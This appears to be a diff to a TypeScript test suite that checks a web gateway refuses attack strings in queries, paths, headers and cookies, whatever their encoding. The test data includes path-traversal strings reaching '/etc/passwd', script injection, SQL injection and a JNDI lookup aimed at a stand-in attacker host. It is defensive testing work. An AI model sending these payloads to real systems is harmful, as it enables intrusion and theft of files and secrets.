@@ -71,7 +71,7 @@ async function assertPasses(path: string, call: Call, what: string): Promise<voi
 }
 
 for (const [kind, texts] of Object.entries(ATTACKS)) {
-  test(`of E14 D05: ${kind} in the query is refused, in any case and however it is encoded`, async () => {
+  test(`E14 D05: ${kind} in the query is refused, in any case and however it is encoded`, async () => {
     for (const text of texts)
       for (const [form, encode] of Object.entries(FORMS)) {
         await assertRefused(`${SECURE}?q=${encode(text)}`, {}, `${form} ${text}`);
@@ -80,7 +80,7 @@ for (const [kind, texts] of Object.entries(ATTACKS)) {
     assert.deepEqual(reached, []);
   });
 
-  test(`of E14 D05: ${kind} in the path is refused, and so is it in the name of a parameter`, async () => {
+  test(`E14 D05: ${kind} in the path is refused, and so is it in the name of a parameter`, async () => {
     for (const text of texts) {
       await assertRefused(`/api/v1/data/${encodeURIComponent(text)}`, {}, text);
       await assertRefused(`/api/v1/data/${percent(percent(text))}`, {}, `twice ${text}`);
@@ -88,7 +88,7 @@ for (const [kind, texts] of Object.entries(ATTACKS)) {
     }
   });
 
-  test(`of E14 D05: ${kind} in a header is refused, whether its name is known or not`, async () => {
+  test(`E14 D05: ${kind} in a header is refused, whether its name is known or not`, async () => {
     for (const text of texts) {
       const headers = [
         { 'x-note': text },
@@ -102,6 +102,41 @@ for (const [kind, texts] of Object.entries(ATTACKS)) {
     }
   });
 }
+
+/** What the old patterns named and other systems let through: one step upwards, and a placeholder of any name. */
+const SMALL = ['../secret.txt', 'a/../b', '..\\secret.txt', '..', '${x}', '${user.name}', '${}', 'hello ${name} there'];
+
+// Attack: one step out of the folder of exports, and a name that a log's template resolves.
+test('E14: a single step upwards and any placeholder are refused, wherever they stand and however they are encoded', async () => {
+  for (const text of SMALL) {
+    for (const [form, encode] of Object.entries(FORMS)) {
+      await assertRefused(`${SECURE}?file=${encode(text)}`, {}, `${form} ${text}`);
+      await assertRefused(`/twin/x?a=1&q=fine&q=${encode(text)}`, {}, `${form} ${text}, handed on`);
+    }
+    await assertRefused(`${SECURE}?${encodeURIComponent(text)}=1`, {}, `a name ${text}`);
+    for (const name of ['x-note', 'user-agent', 'accept-language']) {
+      await assertRefused(SECURE, { headers: { [name]: text } }, `${name} ${text}`);
+      await assertRefused(SECURE, { headers: { [name]: percent(text) } }, `${name} ${text}, encoded`);
+    }
+    await assertRefused(SECURE, { headers: { cookie: `sid=${encodeURIComponent(text)}` } }, `a cookie ${text}`);
+  }
+  for (const path of ['..%2fsecret.txt', 'x%2f..%2fy', '%24%7Bx%7D', '%2524%257Bx%257D'])
+    await assertRefused(`/api/v1/data/${path}`, {}, `the path ${path}`);
+  assert.deepEqual(reached, []);
+});
+
+test('E14 D05: that counts where ems speaks, and nowhere if the operator says so', async () => {
+  const paths = SMALL.map((text) => `/.well-known/jwks.json?q=${encodeURIComponent(text)}`);
+  for (const path of paths) assert.equal((await kit.call('GET', path)).status, 200, path);
+  const config = { detection: { inspection: { mode: 'block' as const, oldPatterns: [] } } };
+  const mild = await startProfile('ems', { limitsEnabled: false, blockOnPattern: false }, { config });
+  try {
+    const answer = await mild.call('GET', `${SECURE}?q=${encodeURIComponent('${x}')}`, { token: await mild.login() });
+    assert.equal(answer.status, 200, answer.text);
+  } finally {
+    await mild.close();
+  }
+});
 
 // Attack: those that the old patterns missed, by encoding or by kind.
 test('D05 each attack that the old patterns missed is found', async () => {
@@ -129,6 +164,11 @@ test('D05 what is harmless goes through, in the query, in headers and in a link'
     'a < b and c > d',
     '<scripture> reading',
     'v1..v2',
+    'a..b',
+    'and so on ..',
+    'Wait.. what?',
+    'costs $5 {net}',
+    '..hidden',
     'to be continued...',
     "O'Reilly & sons",
     'drop me a line or two',
@@ -177,13 +217,15 @@ test('D05 an operator may let a rule by, for one field of one route, and nothing
 });
 
 // Attack: what a scanner says of itself, which logs and pages show.
-test('of E14: scripts, queries and look-ups in User-Agent are refused, and honest ones are not', async () => {
+test('E14: scripts, queries, steps upwards and look-ups in User-Agent are refused, and honest ones are not', async () => {
   const hostile = [
     '<script>alert(1)</script>',
     '1 UNION ALL SELECT null,null',
+    '../../../../etc/passwd',
     '$'.concat('{jndi:ldap://evil.example/a}'),
   ];
-  for (const text of hostile) await assertRefused(SECURE, { headers: { 'user-agent': text } }, text);
+  for (const text of hostile.flatMap((one) => [one, one.toUpperCase(), percent(one), `Mozilla/5.0 ${one}`]))
+    await assertRefused(SECURE, { headers: { 'user-agent': text } }, text);
   const honest = [
     'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
     'python-requests/2.32.3',
